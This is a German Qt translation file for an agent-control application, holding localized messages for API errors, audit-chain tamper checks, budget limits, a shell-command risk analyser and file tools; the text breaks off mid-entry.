<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE TS>
<TS version="2.1" language="de_DE">
<context>
    <name>AgentProfiles</name>
    <message>
        <source>The built-in agent profiles are missing.</source>
        <translation>Die integrierten Agentenprofile fehlen.</translation>
    </message>
    <message>
        <source>Cannot read the agent profiles file %1.</source>
        <translation>Die Agentenprofil-Datei %1 kann nicht gelesen werden.</translation>
    </message>
    <message>
        <source>Agent profiles file %1: %2</source>
        <translation>Agentenprofil-Datei %1: %2</translation>
    </message>
    <message>
        <source>not a JSON object (%1)</source>
        <translation>kein JSON-Objekt (%1)</translation>
    </message>
    <message>
        <source>&quot;agents&quot; must be an array</source>
        <translation>&quot;agents&quot; muss ein Array sein</translation>
    </message>
    <message>
        <source>every agent needs a &quot;name&quot;</source>
        <translation>jeder Agent benötigt einen &quot;name&quot;</translation>
    </message>
    <message>
        <source>agent &quot;%1&quot;: &quot;tools&quot; must be an array of names</source>
        <translation>Agent &quot;%1&quot;: &quot;tools&quot; muss ein Array von Namen sein</translation>
    </message>
    <message>
        <source>agent &quot;%1&quot;: max_tokens and limits must be positive, context_share in (0, 1]</source>
        <translation>Agent &quot;%1&quot;: max_tokens und Limits müssen positiv sein, context_share muss in (0, 1] liegen</translation>
    </message>
</context>
<context>
    <name>AlertRepository</name>
    <message>
        <source>Cannot read the alerts: %1</source>
        <translation>Die Warnungen können nicht gelesen werden: %1</translation>
    </message>
</context>
<context>
    <name>ApiErrorClassifier</name>
    <message>
        <source>Claude rejected the API key (authentication failed). Check the key in the settings.</source>
        <translation>Claude hat den API-Schlüssel abgelehnt (Authentifizierung fehlgeschlagen). Prüfen Sie den Schlüssel in den Einstellungen.</translation>
    </message>
    <message>
        <source>The API budget is exhausted (spend limit reached%1). Not retried: raise the limit or wait until it resets.</source>
        <translation>Das API-Budget ist erschöpft (Ausgabenlimit erreicht%1). Kein erneuter Versuch: Erhöhen Sie das Limit oder warten Sie, bis es zurückgesetzt wird.</translation>
    </message>
    <message>
        <source>Claude&apos;s rate limit was reached.</source>
        <translation>Das Ratenlimit von Claude wurde erreicht.</translation>
    </message>
    <message>
        <source>Claude is overloaded. Try again in a few minutes.</source>
        <translation>Claude ist überlastet. Versuchen Sie es in einigen Minuten erneut.</translation>
    </message>
    <message>
        <source>The API key is not allowed to do this%1.</source>
        <translation>Der API-Schlüssel ist dazu nicht berechtigt%1.</translation>
    </message>
    <message>
        <source>The API does not know this model or endpoint%1.</source>
        <translation>Die API kennt dieses Modell oder diesen Endpunkt nicht%1.</translation>
    </message>
    <message>
        <source>The request is too large for the API (HTTP %1): the conversation or one tool result is too big.</source>
        <translation>Die Anfrage ist zu groß für die API (HTTP %1): Die Unterhaltung oder ein Werkzeugergebnis ist zu umfangreich.</translation>
    </message>
    <message>
        <source>The API timed out processing the request%1.</source>
        <translation>Bei der Verarbeitung der Anfrage ist in der API eine Zeitüberschreitung aufgetreten%1.</translation>
    </message>
    <message>
        <source>The API refused the request as invalid%1.</source>
        <translation>Die API hat die Anfrage als ungültig abgelehnt%1.</translation>
    </message>
    <message>
        <source>Unexpected response from the API endpoint (HTTP %1, content type &quot;%2&quot;).</source>
        <translation>Unerwartete Antwort vom API-Endpunkt (HTTP %1, Inhaltstyp &quot;%2&quot;).</translation>
    </message>
    <message>
        <source>none</source>
        <translation>keiner</translation>
    </message>
    <message>
        <source>The API reported an internal error (HTTP %1)%2.</source>
        <translation>Die API hat einen internen Fehler gemeldet (HTTP %1)%2.</translation>
    </message>
    <message>
        <source>The API reported an error in the stream%1.</source>
        <translation>Die API hat einen Fehler im Stream gemeldet%1.</translation>
    </message>
    <message>
        <source>[request-id: %1]</source>
        <translation>[request-id: %1]</translation>
    </message>
</context>
<context>
    <name>AuditChain</name>
    <message>
        <source>Preparing the audit chain</source>
        <translation>Vorbereiten der Prüfkette</translation>
    </message>
    <message>
        <source>Locking the audit chain</source>
        <translation>Sperren der Prüfkette</translation>
    </message>
    <message>
        <source>The audit chain head is missing; the database was tampered with. Run &quot;m1ctl audit verify&quot;.</source>
        <translation>Der Kopf der Prüfkette fehlt; die Datenbank wurde manipuliert. Führen Sie &quot;m1ctl audit verify&quot; aus.</translation>
    </message>
    <message>
        <source>Writing an audit event</source>
        <translation>Schreiben eines Protokolleintrags</translation>
    </message>
    <message>
        <source>Advancing the audit chain</source>
        <translation>Fortschreiben der Prüfkette</translation>
    </message>
    <message>
        <source>Starting the chain verification</source>
        <translation>Starten der Kettenprüfung</translation>
    </message>
    <message>
        <source>Reading the audit chain head</source>
        <translation>Lesen des Kopfs der Prüfkette</translation>
    </message>
    <message>
        <source>The audit chain head row is missing: the chain cannot be verified and the database was tampered with.</source>
        <translation>Die Kopfzeile der Prüfkette fehlt: Die Kette kann nicht geprüft werden, und die Datenbank wurde manipuliert.</translation>
    </message>
    <message>
        <source>Reading the audit chain anchor</source>
        <translation>Lesen des Ankers der Prüfkette</translation>
    </message>
    <message>
        <source>Preparing the chain verification</source>
        <translation>Vorbereiten der Kettenprüfung</translation>
    </message>
    <message>
        <source>Reading audit events</source>
        <translation>Lesen der Protokolleinträge</translation>
    </message>
    <message>
        <source>Audit event %1 lies before the start of the chain (%2): a row was inserted.</source>
        <translation>Protokolleintrag %1 liegt vor dem Beginn der Kette (%2): Eine Zeile wurde eingefügt.</translation>
    </message>
    <message>
        <source>Audit events %1 to %2 are missing: rows were removed.</source>
        <translation>Die Protokolleinträge %1 bis %2 fehlen: Zeilen wurden entfernt.</translation>
    </message>
    <message>
        <source>Audit event %1 does not follow event %2: rows were removed, inserted or reordered here.</source>
        <translation>Protokolleintrag %1 folgt nicht auf Eintrag %2: Hier wurden Zeilen entfernt, eingefügt oder umsortiert.</translation>
    </message>
    <message>
        <source>Audit event %1 was changed (neither its content nor its link to event %2 match).</source>
        <translation>Protokolleintrag %1 wurde verändert (weder sein Inhalt noch seine Verknüpfung mit Eintrag %2 stimmen überein).</translation>
    </message>
    <message>
        <source>Audit event %1 was changed: its content does not match its hash.</source>
        <translation>Protokolleintrag %1 wurde verändert: Sein Inhalt stimmt nicht mit seinem Hash überein.</translation>
    </message>
    <message>
        <source>The audit chain ends at event %1 but its head records event %2: rows were removed from the end (or the table was emptied).</source>
        <translation>Die Prüfkette endet bei Eintrag %1, ihr Kopf verzeichnet aber Eintrag %2: Am Ende wurden Zeilen entfernt (oder die Tabelle wurde geleert).</translation>
    </message>
    <message>
        <source>The audit chain does not end where its head says (event %1): the head or the last rows were changed.</source>
        <translation>Die Prüfkette endet nicht dort, wo ihr Kopf angibt (Eintrag %1): Der Kopf oder die letzten Zeilen wurden verändert.</translation>
    </message>
    <message numerus="yes">
        <source>%1 (%n disagreement(s) in all.)</source>
        <translation>
            <numerusform>%1 (insgesamt %n Abweichung.)</numerusform>
            <numerusform>%1 (insgesamt %n Abweichungen.)</numerusform>
        </translation>
    </message>
    <message>
        <source>The audit chain is intact: %1 events checked, %2 to %3; %4 runs and %5 tool calls agree with their events.</source>
        <translation>Die Prüfkette ist intakt: %1 Einträge geprüft, %2 bis %3; %4 Läufe und %5 Werkzeugaufrufe stimmen mit ihren Einträgen überein.</translation>
    </message>
    <message>
        <source>%1 of the runs were seeded (m1ctl dev seed): their tool calls have no events and were not compared.</source>
        <translation>%1 der Läufe wurden erzeugt (m1ctl dev seed): Ihre Werkzeugaufrufe haben keine Einträge und wurden nicht verglichen.</translation>
    </message>
</context>
<context>
    <name>AuditProjectionCheck</name>
    <message>
        <source>(empty)</source>
        <translation>(leer)</translation>
    </message>
    <message>
        <source>Preparing the projection check</source>
        <translation>Vorbereiten der Tabellenprüfung</translation>
    </message>
    <message>
        <source>Reading the events of run %1</source>
        <translation>Lesen der Einträge von Lauf %1</translation>
    </message>
    <message>
        <source>Reading run %1</source>
        <translation>Lesen von Lauf %1</translation>
    </message>
    <message>
        <source>Run %1 has events in the audit chain (from event %2) but no runs row: the row was removed outside M1 Agent Control.</source>
        <translation>Lauf %1 hat Einträge in der Prüfkette (ab Eintrag %2), aber keine Zeile in runs: Die Zeile wurde außerhalb von M1 Agent Control entfernt.</translation>
    </message>
    <message>
        <source>The runs row of run %1 says %2 %3, but its events (from event %4) say %5: the table was changed outside M1 Agent Control.</source>
        <translation>Die runs-Zeile von Lauf %1 sagt %2 %3, aber seine Einträge (ab Eintrag %4) sagen %5: Die Tabelle wurde außerhalb von M1 Agent Control geändert.</translation>
    </message>
    <message>
        <source>Reading the tool calls of run %1</source>
        <translation>Lesen der Werkzeugaufrufe von Lauf %1</translation>
    </message>
    <message>
        <source>tool_calls row %1 of run %2 has no events in the audit chain: it was added outside M1 Agent Control.</source>
        <translation>Die tool_calls-Zeile %1 von Lauf %2 hat keine Einträge in der Prüfkette: Sie wurde außerhalb von M1 Agent Control hinzugefügt.</translation>
    </message>
    <message>
        <source>the output recorded there</source>
        <translation>die dort aufgezeichnete Ausgabe</translation>
    </message>
    <message>
        <source>tool_calls row %1 of run %2 says %3 %4, but its events (from event %5) say %6: the table was changed outside M1 Agent Control.</source>
        <translation>Die tool_calls-Zeile %1 von Lauf %2 sagt %3 %4, aber ihre Einträge (ab Eintrag %5) sagen %6: Die Tabelle wurde außerhalb von M1 Agent Control geändert.</translation>
    </message>
    <message>
        <source>Run %1 has tool call %2 in its events (from event %3), but there is no tool_calls row for it: the row was removed outside M1 Agent Control.</source>
        <translation>Lauf %1 hat den Werkzeugaufruf %2 in seinen Einträgen (ab Eintrag %3), aber keine tool_calls-Zeile dafür: Die Zeile wurde außerhalb von M1 Agent Control entfernt.</translation>
    </message>
    <message>
        <source>Looking for runs without events</source>
        <translation>Suche nach Läufen ohne Einträge</translation>
    </message>
    <message>
        <source>The runs row of run %1 has no events in the audit chain: it was added outside M1 Agent Control.</source>
        <translation>Die runs-Zeile von Lauf %1 hat keine Einträge in der Prüfkette: Sie wurde außerhalb von M1 Agent Control hinzugefügt.</translation>
    </message>
    <message>
        <source>Looking for tool calls without events</source>
        <translation>Suche nach Werkzeugaufrufen ohne Einträge</translation>
    </message>
</context>
<context>
    <name>AuditQueries</name>
    <message>
        <source>A history page holds 1 to %1 runs, not %2.</source>
        <translation>Eine Verlaufsseite enthält 1 bis %1 Läufe, nicht %2.</translation>
    </message>
    <message>
        <source>Preparing the history query</source>
        <translation>Vorbereiten der Verlaufsabfrage</translation>
    </message>
    <message>
        <source>Reading the history</source>
        <translation>Lesen des Verlaufs</translation>
    </message>
    <message>
        <source>Reading run &quot;%1&quot;</source>
        <translation>Lesen von Lauf &quot;%1&quot;</translation>
    </message>
    <message>
        <source>There is no run &quot;%1&quot; in the audit store.</source>
        <translation>In der Prüfprotokoll-Datenbank gibt es keinen Lauf &quot;%1&quot;.</translation>
    </message>
    <message>
        <source>Reading the tool calls of run &quot;%1&quot;</source>
        <translation>Lesen der Werkzeugaufrufe von Lauf &quot;%1&quot;</translation>
    </message>
    <message>
        <source>Reading the API calls of run &quot;%1&quot;</source>
        <translation>Lesen der API-Aufrufe von Lauf &quot;%1&quot;</translation>
    </message>
    <message>
        <source>Preparing a percentile query</source>
        <translation>Vorbereiten einer Perzentil-Abfrage</translation>
    </message>
    <message>
        <source>Computing percentiles</source>
        <translation>Berechnen der Perzentile</translation>
    </message>
    <message>
        <source>Reading the run metrics</source>
        <translation>Lesen der Lauf-Metriken</translation>
    </message>
    <message>
        <source>Reading the agent summary</source>
        <translation>Lesen der Agentenübersicht</translation>
    </message>
    <message>
        <source>Reading the costs by day and model</source>
        <translation>Lesen der Kosten nach Tag und Modell</translation>
    </message>
    <message>
        <source>Reading the tokens by day</source>
        <translation>Lesen der Tokens nach Tag</translation>
    </message>
    <message>
        <source>Reading the costs of the last 30 days</source>
        <translation>Lesen der Kosten der letzten 30 Tage</translation>
    </message>
    <message>
        <source>Preparing a percentile probe</source>
        <translation>Vorbereiten einer Perzentil-Abfrage</translation>
    </message>
    <message>
        <source>Preparing the approval rate per scope</source>
        <translation>Vorbereiten der Freigabequote pro Bereich</translation>
    </message>
    <message>
        <source>Reading the approval rate per scope</source>
        <translation>Lesen der Freigabequote pro Bereich</translation>
    </message>
    <message>
        <source>This cursor belongs to another order of the history.</source>
        <translation>Dieser Cursor gehört zu einer anderen Sortierung des Verlaufs.</translation>
    </message>
    <message>
        <source>Reading the API calls by day</source>
        <translation>Lesen der API-Aufrufe pro Tag</translation>
    </message>
</context>
<context>
    <name>AuditRetention</name>
    <message>
        <source>The retention period must be zero or more days.</source>
        <translation>Die Aufbewahrungsdauer muss null oder mehr Tage betragen.</translation>
    </message>
    <message>
        <source>Starting the prune</source>
        <translation>Starten der Bereinigung</translation>
    </message>
    <message>
        <source>Locking the audit chain</source>
        <translation>Sperren der Prüfkette</translation>
    </message>
    <message>
        <source>Finding the first kept audit event</source>
        <translation>Suchen des ersten behaltenen Protokolleintrags</translation>
    </message>
    <message>
        <source>Counting what the prune removes</source>
        <translation>Zählen der von der Bereinigung entfernten Einträge</translation>
    </message>
    <message>
        <source>Reading the last pruned audit event</source>
        <translation>Lesen des letzten bereinigten Protokolleintrags</translation>
    </message>
    <message>
        <source>Removing old audit rows</source>
        <translation>Entfernen alter Protokollzeilen</translation>
    </message>
    <message>
        <source>Recording the chain anchor</source>
        <translation>Speichern des Kettenankers</translation>
    </message>
    <message>
        <source>Committing the prune</source>
        <translation>Festschreiben der Bereinigung</translation>
    </message>
</context>
<context>
    <name>AuditRollups</name>
    <message>
        <source>Preparing the sums of %1</source>
        <translation>Vorbereiten der Summen von %1</translation>
    </message>
    <message>
        <source>Adding to %1</source>
        <translation>Hinzufügen zu %1</translation>
    </message>
    <message>
        <source>Clearing %1</source>
        <translation>Leeren von %1</translation>
    </message>
    <message>
        <source>Recomputing %1</source>
        <translation>Neuberechnen von %1</translation>
    </message>
    <message>
        <source>Reading %1</source>
        <translation>Lesen von %1</translation>
    </message>
</context>
<context>
    <name>AuditSeeder</name>
    <message>
        <source>Seeding needs a run count &gt;= 0 and 0 to 100000 calls per run.</source>
        <translation>Das Befüllen benötigt eine Anzahl an Läufen &gt;= 0 und 0 bis 100000 Aufrufe pro Lauf.</translation>
    </message>
    <message>
        <source>Preparing the seeded runs</source>
        <translation>Vorbereiten der Testläufe</translation>
    </message>
    <message>
        <source>Preparing the seeded tool calls</source>
        <translation>Vorbereiten der Test-Werkzeugaufrufe</translation>
    </message>
    <message>
        <source>Preparing the seeded API calls</source>
        <translation>Vorbereiten der Test-API-Aufrufe</translation>
    </message>
    <message>
        <source>Preparing the seeded events</source>
        <translation>Vorbereiten der Test-Protokolleinträge</translation>
    </message>
    <message>
        <source>Starting a seed transaction</source>
        <translation>Starten einer Befüllungstransaktion</translation>
    </message>
    <message>
        <source>Locking the audit chain</source>
        <translation>Sperren der Prüfkette</translation>
    </message>
    <message>
        <source>Writing seeded run %1</source>
        <translation>Schreiben von Testlauf %1</translation>
    </message>
    <message>
        <source>Writing a seeded tool call of run %1</source>
        <translation>Schreiben eines Test-Werkzeugaufrufs von Lauf %1</translation>
    </message>
    <message>
        <source>Writing a seeded API call of run %1</source>
        <translation>Schreiben eines Test-API-Aufrufs von Lauf %1</translation>
    </message>
    <message>
        <source>Writing a seeded audit event</source>
        <translation>Schreiben eines Test-Protokolleintrags</translation>
    </message>
    <message>
        <source>Advancing the audit chain</source>
        <translation>Fortschreiben der Prüfkette</translation>
    </message>
    <message>
        <source>Committing seeded history</source>
        <translation>Festschreiben des Test-Verlaufs</translation>
    </message>
</context>
<context>
    <name>AuditStore</name>
    <message>
        <source>Checking the audit database</source>
        <translation>Prüfen der Prüfprotokoll-Datenbank</translation>
    </message>
    <message>
        <source>The approval token has no id (jti).</source>
        <translation>Der Freigabe-Token hat keine ID (jti).</translation>
    </message>
    <message>
        <source>Recording the approval token</source>
        <translation>Speichern des Freigabe-Tokens</translation>
    </message>
    <message>
        <source>The approval token was revoked.</source>
        <translation>Der Freigabe-Token wurde widerrufen.</translation>
    </message>
    <message>
        <source>The approval token was already used; each token allows one execution.</source>
        <translation>Der Freigabe-Token wurde bereits verwendet; jeder Token erlaubt genau eine Ausführung.</translation>
    </message>
    <message>
        <source>Reading the approval token ledger</source>
        <translation>Lesen des Freigabe-Token-Verzeichnisses</translation>
    </message>
    <message>
        <source>Cleaning the approval token ledger</source>
        <translation>Bereinigen des Freigabe-Token-Verzeichnisses</translation>
    </message>
</context>
<context>
    <name>BudgetGuard</name>
    <message>
        <source>the run&apos;s budget</source>
        <translation>das Budget des Laufs</translation>
    </message>
    <message>
        <source>the daily budget</source>
        <translation>das Tagesbudget</translation>
    </message>
    <message>
        <source>the monthly budget</source>
        <translation>das Monatsbudget</translation>
    </message>
    <message>
        <source>No new run: %1 is used up (%2 spent of %3).</source>
        <translation>Kein neuer Lauf: %1 ist aufgebraucht (%2 von %3 ausgegeben).</translation>
    </message>
    <message>
        <source>%1 is used up: %2 spent of %3.</source>
        <translation>%1 ist aufgebraucht: %2 von %3 ausgegeben.</translation>
    </message>
    <message>
        <source>The next turn&apos;s cost is unknown (no price for the model), so it cannot be checked against %1.</source>
        <translation>Die Kosten der nächsten Runde sind unbekannt (kein Preis für das Modell), daher können sie nicht gegen %1 geprüft werden.</translation>
    </message>
    <message>
        <source>The next turn may cost up to %1, more than is left of %2 (%3 of %4 spent).</source>
        <translation>Die nächste Runde kann bis zu %1 kosten; das ist mehr, als %2 noch zulässt (%3 von %4 ausgegeben).</translation>
    </message>
    <message>
        <source>%1% of %2 is used: %3 spent of %4.</source>
        <translation>%2 ist zu %1 % ausgeschöpft: %3 von %4 ausgegeben.</translation>
    </message>
</context>
<context>
    <name>ClaudeProvider</name>
    <message>
        <source>Refusing the API address &quot;%1&quot;: only https is allowed (plain http only to this computer).</source>
        <translation>Die API-Adresse &quot;%1&quot; wird zurückgewiesen: Nur https ist erlaubt (unverschlüsseltes http nur zu diesem Computer).</translation>
    </message>
</context>
<context>
    <name>CommandAnalyzer</name>
    <message>
        <source>su switches to another user</source>
        <translation>su wechselt zu einem anderen Benutzer</translation>
    </message>
    <message>
        <source>xargs adds arguments read from its input to the command</source>
        <translation>xargs hängt aus seiner Eingabe gelesene Argumente an den Befehl an</translation>
    </message>
    <message>
        <source>the command nests wrappers or shells too deeply to analyse</source>
        <translation>der Befehl verschachtelt Wrapper oder Shells zu tief für eine Analyse</translation>
    </message>
    <message>
        <source>the script changes the working folder (%1), so the paths after it cannot be checked</source>
        <translation>das Skript wechselt das Arbeitsverzeichnis (%1), daher können die Pfade danach nicht geprüft werden</translation>
    </message>
    <message>
        <source>&quot;%1&quot; runs text or a file as a script</source>
        <translation>&quot;%1&quot; führt Text oder eine Datei als Skript aus</translation>
    </message>
    <message>
        <source>%1 -c has no script</source>
        <translation>%1 -c hat kein Skript</translation>
    </message>
    <message>
        <source>%1 runs the script file &quot;%2&quot;, which is not analysed</source>
        <translation>%1 führt die Skriptdatei &quot;%2&quot; aus, die nicht analysiert wird</translation>
    </message>
    <message>
        <source>%1 without -c reads commands from its input</source>
        <translation>%1 ohne -c liest Befehle aus seiner Eingabe</translation>
    </message>
    <message>
        <source>scripts for %1 are not analysed</source>
        <translation>Skripte für %1 werden nicht analysiert</translation>
    </message>
    <message>
        <source>%1 is given code to run that is not analysed</source>
        <translation>%1 erhält auszuführenden Code, der nicht analysiert wird</translation>
    </message>
    <message>
        <source>%1 runs a program file that is not analysed</source>
        <translation>%1 führt eine Programmdatei aus, die nicht analysiert wird</translation>
    </message>
    <message>
        <source>the %1 program can run commands or write files</source>
        <translation>das Programm %1 kann Befehle ausführen oder Dateien schreiben</translation>
    </message>
    <message>
        <source>git %1 can make git run other programs (core.pager, alias.*, core.sshCommand, …)</source>
        <translation>git %1 kann git dazu bringen, andere Programme auszuführen (core.pager, alias.*, core.sshCommand, …)</translation>
    </message>
    <message>
        <source>git %1 can run other programs</source>
        <translation>git %1 kann andere Programme ausführen</translation>
    </message>
    <message>
        <source>find %1 writes to a file</source>
        <translation>find %1 schreibt in eine Datei</translation>
    </message>
    <message>
        <source>%1 runs a command with other privileges</source>
        <translation>%1 führt einen Befehl mit anderen Rechten aus</translation>
    </message>
    <message>
        <source>%1 runs another command; its options are not analysed</source>
        <translation>%1 führt einen anderen Befehl aus; dessen Optionen werden nicht analysiert</translation>
    </message>
    <message>
        <source>%1: the option &quot;%2&quot; is not known to the analyser</source>
        <translation>%1: Die Option &quot;%2&quot; ist dem Analysator nicht bekannt</translation>
    </message>
    <message>
        <source>%1: the option &quot;-%2&quot; is not known to the analyser</source>
        <translation>%1: Die Option &quot;-%2&quot; ist dem Analysator nicht bekannt</translation>
    </message>
    <message>
        <source>%1 runs the command with other privileges; it is never allowed automatically</source>
        <translation>%1 führt den Befehl mit anderen Rechten aus; dies wird nie automatisch erlaubt</translation>
    </message>
    <message>
        <source>%1 changes the environment or folder of the command; it is never allowed automatically</source>
        <translation>%1 ändert die Umgebung oder das Verzeichnis des Befehls; dies wird nie automatisch erlaubt</translation>
    </message>
    <message>
        <source>sudo keeps or sets environment variables</source>
        <translation>sudo behält Umgebungsvariablen bei oder setzt sie</translation>
    </message>
    <message>
        <source>su without -c starts a shell</source>
        <translation>su ohne -c startet eine Shell</translation>
    </message>
    <message>
        <source>%1 without a command starts an interactive shell</source>
        <translation>%1 ohne Befehl startet eine interaktive Shell</translation>
    </message>
    <message>
        <source>&quot;%1&quot; changes what later command names run</source>
        <translation>&quot;%1&quot; ändert, was spätere Befehlsnamen ausführen</translation>
    </message>
    <message>
        <source>%1 runs the editor command &quot;%2&quot;</source>
        <translation>%1 führt den Editor-Befehl &quot;%2&quot; aus</translation>
    </message>
    <message>
        <source>hyperfine runs its commands through a shell; its options are not analysed</source>
        <translation>hyperfine führt seine Befehle über eine Shell aus; seine Optionen werden nicht analysiert</translation>
    </message>
    <message>
        <source>%1 %2 runs another command; its options are not analysed</source>
        <translation>%1 %2 führt einen anderen Befehl aus; seine Optionen werden nicht analysiert</translation>
    </message>
    <message>
        <source>git config can make git run other programs (core.pager, alias.*, core.sshCommand, hooks, …)</source>
        <translation>git config kann git andere Programme ausführen lassen (core.pager, alias.*, core.sshCommand, Hooks, …)</translation>
    </message>
    <message>
        <source>exec without a command changes the shell&apos;s open files</source>
        <translation>exec ohne Befehl ändert die offenen Dateien der Shell</translation>
    </message>
    <message>
        <source>%1 %2 runs another program that is not analysed</source>
        <translation>%1 %2 führt ein anderes Programm aus, das nicht analysiert wird</translation>
    </message>
</context>
<context>
    <name>CostCsvWriter</name>
    <message>
        <source>Cannot write the cost report: %1</source>
        <translation>Der Kostenbericht kann nicht geschrieben werden: %1</translation>
    </message>
</context>
<context>
    <name>CostReport</name>
    <message>
        <source>Cannot read the costs: %1</source>
        <translation>Die Kosten können nicht gelesen werden: %1</translation>
    </message>
</context>
<context>
    <name>CostTracker</name>
    <message>
        <source>No price is known for the model &quot;%1&quot;: its cost is unknown and budgets cannot count it. Add it to %2.</source>
        <translation>Für das Modell &quot;%1&quot; ist kein Preis bekannt: Seine Kosten sind unbekannt und können nicht auf Budgets angerechnet werden. Tragen Sie es in %2 ein.</translation>
    </message>
</context>
<context>
    <name>DemoWorkspace</name>
    <message>
        <source>Cannot create the demo workspace %1. Make its parent folder writable (or set XDG_DATA_HOME to a writable folder), or pass --workspace DIR with a folder of your own.</source>
        <translation>Der Demo-Arbeitsbereich %1 kann nicht angelegt werden. Machen Sie den übergeordneten Ordner beschreibbar (oder setzen Sie XDG_DATA_HOME auf einen beschreibbaren Ordner), oder geben Sie mit --workspace DIR einen eigenen Ordner an.</translation>
    </message>
    <message>
        <source>Cannot write %1: %2. Make the folder writable, or pass --workspace DIR with a folder of your own.</source>
        <translation>%1 kann nicht geschrieben werden: %2. Machen Sie den Ordner beschreibbar, oder geben Sie mit --workspace DIR einen eigenen Ordner an.</translation>
    </message>
</context>
<context>
    <name>EditFileTool</name>
    <message>
        <source>old_string is empty; give the exact text to replace.</source>
        <translation>old_string ist leer; geben Sie den exakten zu ersetzenden Text an.</translation>
    </message>
    <message>
        <source>old_string and new_string are the same; nothing would change.</source>
        <translation>old_string und new_string sind identisch; es würde sich nichts ändern.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is larger than 16 MiB; it cannot be edited with edit_file.</source>
        <translation>&quot;%1&quot; ist größer als 16 MiB; die Datei kann nicht mit edit_file bearbeitet werden.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; looks like a binary file (it contains NUL bytes); only text files can be edited.</source>
        <translation>&quot;%1&quot; scheint eine Binärdatei zu sein (sie enthält NUL-Bytes); nur Textdateien können bearbeitet werden.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not valid UTF-8 text; only UTF-8 text files can be edited.</source>
        <translation>&quot;%1&quot; ist kein gültiger UTF-8-Text; nur UTF-8-Textdateien können bearbeitet werden.</translation>
    </message>
    <message>
        <source>old_string was not found in &quot;%1&quot;; it must match the file exactly, including whitespace and indentation.</source>
        <translation>old_string wurde in &quot;%1&quot; nicht gefunden; der Text muss exakt mit der Datei übereinstimmen, einschließlich Leerraum und Einrückung.</translation>
    </message>
    <message>
        <source>old_string occurs %1 times in &quot;%2&quot;; it must occur exactly once. Include more surrounding lines to make it unique.</source>
        <translation>old_string kommt in &quot;%2&quot; %1-mal vor; der Text muss genau einmal vorkommen. Nehmen Sie mehr umgebende Zeilen auf, um ihn eindeutig zu machen.</translation>
    </message>
    <message>
        <source>Edited %1: replaced 1 occurrence at line %2.</source>
        <translation>%1 bearbeitet: 1 Vorkommen in Zeile %2 ersetzt.</translation>
    </message>
</context>
<context>
    <name>HealthMonitor</name>
    <message>
        <source>The 95th percentile of %1 is %2 s, above the threshold of %3 s.</source>
        <translation>Das 95. Perzentil der %1 beträgt %2 s und liegt über dem Schwellenwert von %3 s.</translation>
    </message>
    <message>
        <source>tool execution time</source>
        <translation>Werkzeug-Ausführungszeit</translation>
    </message>
    <message>
        <source>API latency</source>
        <translation>API-Latenz</translation>
    </message>
    <message>
        <source>%1% of %2 tool calls failed (threshold %3%).</source>
        <translation>%1 % von %2 Werkzeugaufrufen sind fehlgeschlagen (Schwellenwert %3 %).</translation>
    </message>
</context>
<context>
    <name>HistoryMetrics</name>
    <message>
        <source>Cannot read metrics from the audit store: %1</source>
        <translation>Die Metriken können nicht aus der Prüfprotokoll-Datenbank gelesen werden: %1</translation>
    </message>
</context>
<context>
    <name>JsonLogger</name>
    <message>
        <source>Cannot open the log file %1: %2</source>
        <translation>Die Protokolldatei %1 kann nicht geöffnet werden: %2</translation>
    </message>
    <message>
        <source>Cannot write the log file %1: %2</source>
        <translation>Die Protokolldatei %1 kann nicht geschrieben werden: %2</translation>
    </message>
    <message>
        <source>M1_LOG_LEVEL is &quot;%1&quot;, which is no log level (config.log_level). Use one of: debug, info, warning, critical; or unset it to use the settings&apos; monitoring.log.level.</source>
        <translation>M1_LOG_LEVEL ist &quot;%1&quot;, das ist keine Protokollstufe (config.log_level). Verwenden Sie eine von: debug, info, warning, critical; oder entfernen Sie die Variable, um monitoring.log.level aus den Einstellungen zu verwenden.</translation>
    </message>
</context>
<context>
    <name>JsonSchema</name>
    <message>
        <source>%1: the schema keyword &quot;%2&quot; is malformed.</source>
        <translation>%1: Das Schema-Schlüsselwort &quot;%2&quot; ist fehlerhaft.</translation>
    </message>
    <message>
        <source>an integer too large to be exact</source>
        <translation>eine Ganzzahl, die für eine exakte Darstellung zu groß ist</translation>
    </message>
    <message>
        <source>expected %1, got %2</source>
        <translation>erwartet: %1, erhalten: %2</translation>
    </message>
    <message>
        <source>must be the value %1</source>
        <translation>muss den Wert %1 haben</translation>
    </message>
    <message>
        <source>must be one of %1</source>
        <translation>muss einer der Werte %1 sein</translation>
    </message>
    <message>
        <source>text is too long (%1 characters, at most %2 allowed)</source>
        <translation>Text ist zu lang (%1 Zeichen, höchstens %2 erlaubt)</translation>
    </message>
    <message>
        <source>text is too short (%1 characters, at least %2 required)</source>
        <translation>Text ist zu kurz (%1 Zeichen, mindestens %2 erforderlich)</translation>
    </message>
    <message>
        <source>text does not match the pattern %1</source>
        <translation>Text entspricht nicht dem Muster %1</translation>
    </message>
    <message>
        <source>%1 is below the minimum %2</source>
        <translation>%1 liegt unter dem Minimum %2</translation>
    </message>
    <message>
        <source>%1 is above the maximum %2</source>
        <translation>%1 liegt über dem Maximum %2</translation>
    </message>
    <message>
        <source>too few items (%1, at least %2 required)</source>
        <translation>zu wenige Elemente (%1, mindestens %2 erforderlich)</translation>
    </message>
    <message>
        <source>too many items (%1, at most %2 allowed)</source>
        <translation>zu viele Elemente (%1, höchstens %2 erlaubt)</translation>
    </message>
    <message>
        <source>required property &quot;%1&quot; is missing</source>
        <translation>erforderliche Eigenschaft &quot;%1&quot; fehlt</translation>
    </message>
    <message>
        <source>unknown property &quot;%1&quot; is not allowed</source>
        <translation>unbekannte Eigenschaft &quot;%1&quot; ist nicht erlaubt</translation>
    </message>
    <message>
        <source> or </source>
        <comment>between type names</comment>
        <translation> oder </translation>
    </message>
</context>
<context>
    <name>ListDirectoryTool</name>
    <message>
        <source> -&gt; (outside the workspace, not followed)</source>
        <translation> -&gt; (außerhalb des Arbeitsbereichs, nicht verfolgt)</translation>
    </message>
    <message>
        <source> -&gt; (link loop)</source>
        <translation> -&gt; (Link-Schleife)</translation>
    </message>
    <message>
        <source> -&gt; (missing target)</source>
        <translation> -&gt; (Ziel fehlt)</translation>
    </message>
    <message>
        <source>[cannot list: %1]</source>
        <translation>[Auflisten nicht möglich: %1]</translation>
    </message>
    <message>
        <source> (%1 bytes)</source>
        <translation> (%1 Bytes)</translation>
    </message>
    <message>
        <source> (special file)</source>
        <translation> (Spezialdatei)</translation>
    </message>
    <message>
        <source>(%1 is empty)</source>
        <translation>(%1 ist leer)</translation>
    </message>
    <message>
        <source>
